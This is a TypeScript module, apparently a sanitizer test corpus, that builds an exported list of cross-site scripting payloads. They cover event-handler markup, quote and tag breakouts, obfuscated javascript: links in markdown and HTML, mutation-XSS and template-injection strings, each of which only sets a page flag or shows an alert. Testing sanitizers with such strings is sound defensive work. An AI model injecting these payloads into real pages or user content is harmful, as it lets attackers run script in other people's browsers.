/** What an attack runs: it leaves a mark on the page and asks people something, which a browser tells. */
const RUN = "window.ran=1;alert(1)";
const CALLS: readonly string[] = [RUN, "top['al'+'ert'](window.ran=1)", "eval(atob('d2luZG93LnJhbj0x'))"];

const EVENTS: readonly ((call: string) => string)[] = [
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img src=x onerror=${call.replaceAll(" ", "")}//`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg/onload='${call.replaceAll("'", "&#39;")}'>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin="${call}" attributename=x>`,
  (call) => `<body onload="${call}">`,
  (call) => `<details open ontoggle="${call}">x</details>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<audio src=x onerror="${call}">`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<select autofocus onfocus="${call}">`,
  (call) => `<textarea autofocus onfocus="${call}">`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<style>@keyframes a{}</style><p style="animation-name:a" onanimationstart="${call}">x</p>`,
  (call) => `<iframe onload="${call}"></iframe>`,
  (call) => `<object data=x onerror="${call}"></object>`,
  (call) => `<link rel=stylesheet href=x onerror="${call}">`,
  (call) => `<p onmouseover="${call}" style="position:fixed;inset:0">x</p>`,
];

const BREAKOUTS: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `</script>${markup}`,
  (markup) => `</title></style></textarea>${markup}`,
  (markup) => `-->${markup}`,
  (markup) => `]]>${markup}`,
  (markup) => `\`\`\`\n${markup}`,
];

const SCHEMES: readonly string[] = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
  "javascript&colon;",
  "&#106;avascript:",
  "data:text/html,<script>",
  "vbscript:",
];

const LINKS: readonly ((target: string) => string)[] = [
  (target) => target,
  (target) => `[click](${target})`,
  (target) => `[click](<${target}>)`,
  (target) => `[click]: ${target}\n\n[click]`,
  (target) => `![click](${target})`,
  (target) => `<a href="${target}">click</a>`,
  (target) => `<form action="${target}"><button>click</button></form>`,
];

const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `<template><script>${RUN}</script></template>`,
  `<base href="javascript:/a/-${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `");${RUN};//`,
  `\u2028${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;img src=x onerror=&quot;${RUN}&quot;&gt;`,
];

/** Ways to run a script from a text that a page shows: markup, links and what breaks out of where the text stands. */
export const XSS_PAYLOADS: readonly string[] = [
  ...EVENTS.flatMap((event, index) =>
    CALLS.map((call, at) => BREAKOUTS[(index + at * 3) % BREAKOUTS.length]!(event(call))),
  ),
  ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme + encodeURIComponent(RUN)))),
  ...SCRIPTS,
  ...BREAKOUTS.map((breakout) => breakout(SCRIPTS[0]!)),
];
